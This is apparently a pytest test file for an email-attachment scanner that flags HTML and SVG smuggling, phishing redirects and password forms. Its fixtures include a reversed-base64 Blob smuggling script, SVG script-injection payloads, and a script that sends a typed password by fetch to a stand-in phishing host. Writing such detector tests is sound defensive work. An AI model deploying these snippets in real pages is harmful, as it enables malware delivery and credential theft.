"""HTML and SVG attachments: smuggling decoded into members, redirects, password forms,
SVG scripts; ordinary pages stay clean; every read is bounded."""

from __future__ import annotations

import base64
import time

import pytest
from cases import limits, with_attachment
from cases_smuggling import (
    HTML,
    SVG,
    b64,
    blob_page,
    char_code_page,
    data_uri_page,
    exe_zip,
    lnk_zip,
    login_page,
    ms_save_page,
    refresh_page,
    script_redirect_page,
    svg_script,
    svg_smuggling,
    xor_page,
    zip_of,
)
from conftest import eml

from mailcheck.analyzers import payloads, smuggling
from mailcheck.api import scan_bytes
from mailcheck.catalog import LANGS, load
from mailcheck.containers import ARCHIVE_KINDS, OPENERS, OpenRequest
from mailcheck.limits import DEFAULT, Budget
from mailcheck.model import Attachment, Finding, ScanResult
from mailcheck.pages import member_names, read_page

CATALOG = load()
NEW_IDS = set(smuggling.EMITS)
JA_HEADERS = (
    "From: =?utf-8?b?5bGx55Sw5aSq6YOO?= <yamada@example.co.jp>",
    "To: taro@example.co.jp",
    "Subject: =?utf-8?b?6KuL5rGC5pu444Gu44GU6YCB5LuY?=",  # 請求書のご送付
)
JA_TEXT = "いつもお世話になっております。請求書を添付いたします。ご確認ください。\r\n"


def ids(result: ScanResult) -> set[str]:
    return {f.id for f in result.findings}


def finding(result: ScanResult, finding_id: str) -> Finding:
    return next(f for f in result.findings if f.id == finding_id)


def paths(result: ScanResult) -> set[str]:
    def walk(node: Attachment) -> list[str]:
        return [node.path, *(p for child in node.children for p in walk(child))]

    return {p for top in result.attachments for p in walk(top)}


def scan_page(page: bytes, name: str = "invoice.html", ctype: str = HTML, **kw: int) -> ScanResult:
    return scan_bytes(with_attachment(page, name, ctype), limits=limits(**kw) if kw else DEFAULT)


# --- smuggling: the payload is decoded and analysed as a member ---------------------------


def test_blob_atob_click_zip_with_a_program_is_opened_as_a_member() -> None:
    result = scan_page(blob_page(exe_zip()))
    assert result.verdict.label == "malicious"
    assert {"attachment.html_smuggling", "attachment.executable"} <= ids(result)
    assert "2/invoice.html/invoice.zip/invoice.exe" in paths(result)
    inner = finding(result, "attachment.executable")
    assert inner.evidence[0].location == "attachment 2/invoice.html/invoice.zip/invoice.exe"
    facts = finding(result, "attachment.html_smuggling").facts()
    assert facts["file_name"] == "invoice.zip"
    assert "application/zip from a base64 string" in facts["payload"]
    assert "analysed as 2/invoice.html/invoice.zip" in facts["payload"]
    for technique in ("atob()", "new Blob()", "URL.createObjectURL", "click() by script"):
        assert technique in facts["how"]


def test_a_zip_with_a_shortcut_inside_is_found_through_the_page() -> None:
    result = scan_page(blob_page(lnk_zip()))
    assert {"attachment.html_smuggling", "attachment.lnk"} <= ids(result)
    lnk = finding(result, "attachment.lnk")
    assert lnk.evidence[0].location == "attachment 2/invoice.html/invoice.zip/invoice.lnk"
    assert result.verdict.label == "malicious"


def test_ms_save_or_open_blob_with_concatenated_literals() -> None:
    result = scan_page(ms_save_page(exe_zip()), "scan.html")
    assert {"attachment.html_smuggling", "attachment.executable"} <= ids(result)
    assert "2/scan.html/scan.zip/invoice.exe" in paths(result)
    assert "msSaveOrOpenBlob" in finding(result, "attachment.html_smuggling").facts()["how"]


def test_data_uri_link_with_download_is_named_by_its_own_tag() -> None:
    result = scan_page(data_uri_page(exe_zip(), "Rechnung.zip"), "rechnung.htm")
    assert {"attachment.html_smuggling", "attachment.executable"} <= ids(result)
    assert "2/rechnung.htm/Rechnung.zip/invoice.exe" in paths(result)
    facts = finding(result, "attachment.html_smuggling").facts()
    assert "data: URI" in facts["payload"]


def test_char_code_array() -> None:
    result = scan_page(char_code_page(exe_zip()))
    assert "2/invoice.html/invoice.zip/invoice.exe" in paths(result)
    facts = finding(result, "attachment.html_smuggling").facts()
    assert "character codes" in facts["payload"]


def test_reversed_base64_literal_is_decoded() -> None:
    payload = exe_zip()
    page = f"""<html><body><script>
var s = "{b64(payload)[::-1]}".split("").reverse().join("");
var b = new Blob([Uint8Array.from(atob(s), c => c.charCodeAt(0))]);
var a = document.createElement("a"); a.href = URL.createObjectURL(b);
a.download = "doc.zip"; a.click();
</script></body></html>""".encode()
    result = scan_page(page)
    assert "2/invoice.html/doc.zip/invoice.exe" in paths(result)
    assert "reversed" in finding(result, "attachment.html_smuggling").facts()["payload"]


def test_payload_name_built_from_undecodable_data_is_critical() -> None:
    page = xor_page().replace(b'a.download = "report"', b'a.download = "invoice.iso"')
    result = scan_page(page)
    assert "attachment.html_smuggling" in ids(result)
    assert finding(result, "attachment.html_smuggling").facts()["file_name"] == "invoice.iso"


def test_shape_without_anything_that_decodes_is_high() -> None:
    result = scan_page(xor_page(), "document.html")
    assert ids(result) & NEW_IDS == {"attachment.html_smuggling_suspected"}
    assert result.verdict.label == "suspicious"
    assert paths(result) == {"1", "2/document.html"}  # nothing decoded, no member


def test_html_smuggling_page_inside_a_zip() -> None:
    archive = zip_of(("invoice.html", blob_page(exe_zip())))
    result = scan_bytes(with_attachment(archive, "invoice.zip", "application/zip"))
    assert "attachment.html_smuggling" in ids(result)
    assert "2/invoice.zip/invoice.html/invoice.zip/invoice.exe" in paths(result)
    assert (
        finding(result, "attachment.executable")
        .evidence[0]
        .location.startswith("attachment 2/invoice.zip/invoice.html/")
    )


def test_page_written_by_document_write_atob_is_read_as_a_member() -> None:
    inner = login_page() + b"<!-- " + b"x" * 400 + b" -->"
    page = f'<html><body><script>document.write(atob("{b64(inner)}"));</script></body></html>'
    result = scan_page(page.encode(), "secure.html")
    assert "attachment.html_credential_form" in ids(result)
    where = finding(result, "attachment.html_credential_form").evidence[0].location
    assert where == "attachment 2/secure.html/embedded-1.html"


def test_a_name_without_a_page_kind_is_still_read() -> None:
    # No tag the sniffer knows in the head: a .html name is enough for the analyzer.
    page = b"var x = 1;\n" * 3 + refresh_page()
    result = scan_page(page, "fax.html", "application/octet-stream")
    assert "attachment.html_redirect" in ids(result)


# --- SVG ------------------------------------------------------------------------------------


def test_svg_with_a_script_that_navigates_away() -> None:
    result = scan_page(svg_script(), "logo.svg", SVG)
    assert {"attachment.svg_script", "attachment.html_redirect"} <= ids(result)
    assert finding(result, "attachment.html_redirect").facts()["target"] == (
        "hxxps://evil[.]example[.]test/"
    )
    assert result.verdict.label in ("suspicious", "malicious")


@pytest.mark.parametrize(
    "body",
    [
        '<image href="x.png" onload="alert(1)"/>',
        '<a xlink:href="javascript:alert(1)"><text>Open</text></a>',
        '<foreignObject width="100" height="100"><form action="https://x.test/">'
        '<input type="text"/></form></foreignObject>',
    ],
)
def test_svg_active_content_without_a_script_tag(body: str) -> None:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"{body}</svg>"
    ).encode()
    result = scan_page(svg, "pic.svg", SVG)
    assert "attachment.svg_script" in ids(result)
    assert result.verdict.label == "suspicious"


def test_svg_that_smuggles_is_malicious() -> None:
    result = scan_page(svg_smuggling(exe_zip()), "scan.svg", SVG)
    assert {"attachment.svg_script", "attachment.html_smuggling"} <= ids(result)
    assert "2/scan.svg/invoice.zip/invoice.exe" in paths(result)
    assert result.verdict.label == "malicious"


# --- redirects and password forms ----------------------------------------------------------


def test_meta_refresh_to_a_remote_site() -> None:
    result = scan_page(refresh_page(), "voicemail.html")
    facts = finding(result, "attachment.html_redirect").facts()
    assert facts["target"].startswith("hxxps://login[.]example-phish[.]test/")
    assert facts["how"] == "meta refresh after 0 s"
    assert result.verdict.label == "suspicious"


def test_a_plain_meta_refresh_is_only_evidence() -> None:
    result = scan_page(refresh_page("https://docs.example.com/moved/"), "moved.html")
    assert ids(result) & NEW_IDS == {"attachment.html_redirect_meta"}
    assert result.verdict.label == "clean"  # a second trait makes it suspicious


def test_a_relative_meta_refresh_is_nothing() -> None:
    page = (
        b'<html><head><meta http-equiv="refresh" content="0;URL=../std/index.html"></head></html>'
    )
    assert ids(scan_page(page, "index.html")) & NEW_IDS == set()


def test_script_redirect_through_atob_shows_the_decoded_address() -> None:
    result = scan_page(script_redirect_page(), "fax.html")
    target = finding(result, "attachment.html_redirect").facts()["target"]
    assert "hxxps://evil[.]example[.]test/" in target


def test_credential_form_posting_elsewhere() -> None:
    result = scan_page(login_page(), "shared_document.html")
    facts = finding(result, "attachment.html_credential_form").facts()
    assert facts["target"] == "hxxps://collect[.]example-phish[.]test/post.php"
    assert "password" in facts["fields"]
    assert result.verdict.label == "suspicious"


def test_password_posted_by_script() -> None:
    page = b"""<html><body><input type="password" id="pw"><button id="go">Sign in</button>
<script>document.getElementById("go").onclick = function () {
  fetch("https://api.example-phish.test/bot123/sendMessage", {method: "POST",
        body: document.getElementById("pw").value});
};</script></body></html>"""
    result = scan_page(page, "login.html")
    facts = finding(result, "attachment.html_credential_form").facts()
    assert "api[.]example-phish[.]test" in facts["target"]


# --- Japanese and English mail ----------------------------------------------------------------


@pytest.mark.parametrize("lang", sorted(LANGS))
def test_japanese_invoice_mail_with_smuggling_page(lang: str) -> None:
    data = with_attachment(
        blob_page(exe_zip(), "請求書.zip"), "請求書.html", HTML, *JA_HEADERS, text=JA_TEXT
    )
    result = scan_bytes(data)
    assert result.verdict.label == "malicious"
    assert "2/請求書.html/請求書.zip/invoice.exe" in paths(result)
    hit = finding(result, "attachment.html_smuggling")
    texts = CATALOG.texts(hit.id, lang, hit.facts())  # type: ignore[arg-type]
    assert "請求書.zip" in texts.explanation and "{" not in texts.explanation


@pytest.mark.parametrize("finding_id", sorted(NEW_IDS))
def test_catalog_texts_are_filled_in_both_languages(finding_id: str) -> None:
    from cases import CASES

    data, lim = CASES[finding_id]()
    hit = finding(scan_bytes(data, limits=lim), finding_id)
    for lang in LANGS:
        texts = CATALOG.texts(finding_id, lang, hit.facts())
        assert "{" not in texts.explanation + texts.title + texts.advice
        assert " - " not in texts.explanation or finding_id == "attachment.html_credential_form"


# --- ordinary pages stay clean -------------------------------------------------------------

PNG_1PX = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
NEWSLETTER = f"""<!DOCTYPE html>
<html lang="ja"><head><meta charset="utf-8"><title>Example News 5月号</title>
<script async src="https://www.googletagmanager.com/gtag/js?id=G-XXXX"></script>
<script>
  window.dataLayer = window.dataLayer || [];
  function gtag(){{dataLayer.push(arguments);}}
  gtag('js', new Date()); gtag('config', 'G-XXXX');
  (function(i,s,o,g,r,a,m){{i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){{
  (i[r].q=i[r].q||[]).push(arguments)}},i[r].l=1*new Date();a=s.createElement(o),
  m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)
  }})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');
</script>
<script src="https://code.jquery.com/jquery-3.7.1.min.js"></script>
<script>
$(function () {{
  $(".lang").on("click", function () {{ location.href = "https://news.example.com/en/"; }});
  var token = "{"abcdefghij" * 40}";
}});
function share() {{
  window.open("https://twitter.com/intent/tweet?url=https://news.example.com/");
}}
</script>
<style>@font-face {{ font-family: x;
  src: url(data:font/woff2;base64,{b64(bytes(range(256)) * 8)}); }}</style>
</head><body>
<img src="data:image/png;base64,{b64(PNG_1PX * 40)}" alt="logo">
<h1>今月のお知らせ</h1><p>新製品のご案内です。<a href="https://news.example.com/p">詳しくはこちら</a></p>
<form action="https://news.example.com/search"><input type="text" name="q"></form>
<button onclick="location.href='https://news.example.com/unsubscribe'">配信停止</button>
</body></html>""".encode()
RECEIPT = """<html><head><meta charset="utf-8"><title>Receipt</title>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><table><tr><td>Order</td><td>#12345</td></tr><tr><td>Total</td><td>¥3,300</td></tr>
</table><p>Thank you for your purchase. <a href="https://shop.example.com/orders/12345">
View your order</a></p><script>window.print && console.log("receipt");</script></body></html>
""".encode()
SVG_LOGO = b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="120" height="40">
  <defs><linearGradient id="g"><stop offset="0" stop-color="#036"/></linearGradient></defs>
  <a xlink:href="https://www.example.com/"><rect width="120" height="40" fill="url(#g)"/></a>
  <foreignObject width="120" height="40"><div xmlns="http://www.w3.org/1999/xhtml">Example
  </div></foreignObject>
  <text x="10" y="25" font-family="sans-serif">Example</text>
</svg>"""
CSV_ROWS = ("date,amount\n" + "2024-05-01,1200\n" * 40).encode()
EXPORT_PAGE = f"""<html><body><img src="data:image/png;base64,{b64(PNG_1PX * 60)}">
<button id="csv">Download CSV</button><script>
document.getElementById("csv").onclick = function () {{
  var rows = "{b64(CSV_ROWS)}";
  var blob = new Blob([atob(rows)], {{type: "text/csv"}});
  var a = document.createElement("a"); a.href = URL.createObjectURL(blob);
  a.download = "report.csv"; a.click();
}};</script></body></html>""".encode()


@pytest.mark.parametrize(
    ("page", "name", "ctype"),
    [
        (NEWSLETTER, "newsletter.html", HTML),
        (RECEIPT, "receipt.html", HTML),
        (SVG_LOGO, "logo.svg", SVG),
        (EXPORT_PAGE, "report.html", HTML),
    ],
    ids=["newsletter", "receipt", "svg-logo", "csv-export"],
)
def test_ordinary_pages_stay_clean(page: bytes, name: str, ctype: str) -> None:
    result = scan_page(page, name, ctype)
    assert ids(result) & NEW_IDS == set()
    assert result.verdict.label == "clean"
    assert not any(p.startswith(f"2/{name}/") for p in paths(result) if "embedded" in p)


def test_pictures_in_a_page_are_not_members() -> None:
    page = read_page(NEWSLETTER, svg=False, max_bytes=DEFAULT.max_member_bytes)
    assert page.blobs  # the logo, the font: found and decoded...
    assert member_names(page) == []  # ...and left as the page's content


def test_a_smuggling_html_body_is_not_an_attachment() -> None:
    body = blob_page(exe_zip()).decode()
    data = eml("From: a@example.com", "Subject: hi", body=body, content_type="text/html")
    result = scan_bytes(data)
    assert ids(result) & NEW_IDS == set()
    assert paths(result) == {"1"}


# --- registration and bounds ---------------------------------------------------------------


def test_the_analyzer_kinds_are_the_modules() -> None:
    entry = next(a for a in payloads.ANALYZERS if a.name == "payload.smuggling")
    assert entry.kinds == smuggling.KINDS
    assert set(entry.emits) == NEW_IDS


def test_pages_are_openers_but_not_archives() -> None:
    assert {"html", "svg"} <= set(OPENERS)
    assert not {"html", "svg"} & ARCHIVE_KINDS  # padding is still checked on pages


def test_a_20_mb_blob_stays_within_the_member_bound() -> None:
    payload = b"PK\x03\x04" + bytes(range(256)) * (15 * 4096)  # 15 MiB, base64 20 MiB
    page = blob_page(payload, "big.zip")
    assert len(page) > 20 * 1024 * 1024
    started = time.monotonic()
    result = scan_page(page, "big.html", max_member_bytes=1024 * 1024)
    elapsed = time.monotonic() - started
    assert elapsed < 15, elapsed
    assert "attachment.html_smuggling" in ids(result)
    assert "limit.max_member_bytes" in ids(result)
    member = next(
        c for top in result.attachments for c in top.children if c.path.endswith("big.zip")
    )
    assert member.size == 1024 * 1024 and member.status == "truncated"
    assert result.verdict.incomplete


def test_the_total_bound_stops_decoding() -> None:
    result = scan_page(blob_page(exe_zip()), max_total_bytes=len(blob_page(exe_zip())) + 100)
    assert "limit.max_total_bytes" in ids(result)


@pytest.mark.parametrize(
    "pathological",
    [
        b"<script>" + b"'" + b"A" * 3_000_000,  # an unterminated literal
        b"<script>" + b"'AAAAAAAA'+" * 300_000,  # endless joined literals
        b"<script>[" + b"1," * 1_000_000,  # an unterminated code array
        b"<html>" + b"<meta http-equiv=refresh " * 200_000,
        b"<script>" + b"{" * 500_000 + b"location.href='https://x.test/'" * 1000,
        b"<script>" + b"location.href='https://x.test/'+" * 100_000,
        b"<svg>" + b"<foreignObject>" * 200_000,
        b"<svg><a " + b" onx" * 1_000_000,
        b"<form><input type=password>" + b"<input name=a " * 300_000,
        b"data:a/b;base64," * 300_000,
        b"<script>unescape('" + b"%41" * 2_000_000,
    ],
    ids=lambda b: repr(b[:24]),
)
def test_pathological_input_is_read_in_bounded_time(pathological: bytes) -> None:
    started = time.monotonic()
    page = read_page(pathological, svg=pathological.startswith(b"<svg"), max_bytes=1 << 20)
    assert time.monotonic() - started < 5
    assert len(page.blobs) <= 16


def test_the_opener_never_raises_on_garbage() -> None:
    import os

    for kind in ("html", "svg"):
        for data in (b"", os.urandom(5000), b"<html>" + os.urandom(5000)):
            request = OpenRequest(
                data=data, kind=kind, path="2/x.html", passwords=(), budget=Budget(DEFAULT), depth=0
            )
            opened = OPENERS[kind](request)
            assert opened.status in ("ok", "truncated")
